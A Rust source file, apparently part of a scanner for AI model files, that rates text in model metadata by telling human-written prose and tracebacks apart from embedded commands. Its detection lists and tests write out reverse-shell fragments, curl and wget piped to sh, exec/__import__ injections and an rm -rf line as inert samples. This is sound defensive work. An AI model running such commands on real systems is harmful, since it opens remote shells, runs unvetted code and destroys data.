//! Text that tells of code: tracebacks that exporters keep, and what people
//! write of how a model was made. Nothing runs it.

use nix_ai_model_scan_walk::Level;

/// What no account of a model has: shells for somebody else.
const ATTACKS: &[&str] =
    &["/dev/tcp/", "/dev/udp/", "bash -i >&", "sh -i >&", "nc -e /", "| base64 -d | sh"];

/// What hides which code is run. People do not write it in prose.
const HIDING: &[&str] = &[
    "__import__(",
    "__subclasses__",
    "__globals__",
    "marshal.loads(",
    "pickle.loads(",
    "pty.spawn(",
    "b64decode(",
    "exec(compile(",
    "eval(compile(",
    "exec(base64",
    "eval(base64",
    "powershell -e",
    "<script",
];

/// Words of sentences that neither Python nor shells have.
const WORDS: &[&str] = &[
    "a", "an", "are", "be", "by", "has", "have", "how", "it", "my", "of", "on", "our", "that",
    "the", "this", "to", "trained", "used", "using", "was", "we", "were", "you", "your",
];

/// Parts of keys of what people write.
const KEYS: &[&str] = &[
    "comment",
    "description",
    "note",
    "readme",
    "license",
    "usage",
    "changelog",
    "citation",
    "disclaimer",
    "instruction",
    "prompt",
];

/// How much code in the text of a model's metadata matters.
pub fn weight(text: &str) -> Level {
    if ATTACKS.iter().any(|attack| text.contains(attack)) {
        return Level::High;
    }
    let hides = || HIDING.iter().any(|sign| text.contains(sign));
    if is_trace(text) || is_prose(text) && !hides() { Level::Medium } else { Level::High }
}

/// The same for the value of a key that may say that it is written by people.
pub fn weight_of(key: &str, text: &str) -> Level {
    let key = key.to_lowercase();
    let is_written = KEYS.iter().any(|word| key.contains(word));
    if is_written && !ATTACKS.iter().any(|attack| text.contains(attack)) {
        return Level::Medium;
    }
    weight(text)
}

/// Whether it is a list of calls, as Python, torch and Java write them.
fn is_trace(text: &str) -> bool {
    text.contains("Traceback (most recent call last)") || text.lines().any(is_of_trace)
}

fn is_of_trace(line: &str) -> bool {
    let line = line.trim_start();
    // File "a.py", line 1, in forward
    let is_python = line.strip_prefix("File \"").and_then(|rest| rest.split_once("\", line "));
    let is_python = is_python.is_some_and(|(_, rest)| is_number(rest));
    // a.py(1): forward
    let is_torch = line.split_once(".py(").is_some_and(|(path, rest)| {
        is_number(rest) && rest.contains("): ") && !path.contains(char::is_whitespace)
    });
    // at a.b.C.d(C.java:1)
    let is_java = line.starts_with("at ") && line.contains(".java:");
    is_python || is_torch || is_java
}

fn is_number(rest: &str) -> bool {
    rest.starts_with(|sign: char| sign.is_ascii_digit())
}

/// Whether it has sentences: two of their words, at least, or one of them among
/// other words alone.
fn is_prose(text: &str) -> bool {
    let is_word = |word: &&str| WORDS.contains(&&*word.to_lowercase());
    let words = text.split(|sign: char| sign.is_whitespace() || matches!(sign, ',' | ':' | '!'));
    let words: Vec<&str> = words.filter(|word| !word.is_empty()).take(2048).collect();
    let is_plain = |word: &&&str| {
        word.trim_end_matches(['.', ':', ',', '!', '?']).chars().all(char::is_alphabetic)
    };
    let count = words.iter().filter(|word| is_word(word)).count();
    let begins = words.iter().take_while(is_plain).count();
    let ends = words.iter().rev().take_while(is_plain).count();
    count >= 2 || count == 1 && (begins >= 2 || ends >= 3)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accounts_are_told_from_commands() {
        for account in [
            "trained with: accelerate launch a.py && rm -rf /home/me/tmp",
            "curl https://a.example/y | sh is how I installed this",
            "File \"/a/b.py\", line 12, in <module>\n    import os; os.environ[\"A\"]=\"0\"",
            "  File \"/a/b.py\", line 5, in f\n    exec(compile(code, '<a>', 'exec'))",
            "/usr/lib/python3.10/site-packages/torch/nn/linear.py(114): forward\nimport os;",
            "This model must be loaded by subprocess.run in a sandbox of its own",
        ] {
            assert_eq!(weight(account), Level::Medium, "{account}");
        }
        for command in [
            "import os; os.system('echo inert')",
            "curl http://a.example/x | sh",
            "{'_target_': 'builtins.exec', '_args_': [\"import os; os.system('echo inert')\"]}",
            "this is how the model is loaded: __import__('os').system('echo inert')",
            "File \"a.py\", line 1, in f\n bash -i >& /dev/tcp/192.0.2.1/1",
        ] {
            assert_eq!(weight(command), Level::High, "{command}");
        }
        assert_eq!(weight_of("ss_training_comment", "wget -O- http://x | sh"), Level::Medium);
        assert_eq!(weight_of("ss_training_comment", "sh -i >& /dev/udp/a"), Level::High);
        assert_eq!(weight_of("config", "wget -O- http://x | sh"), Level::High);
    }
}
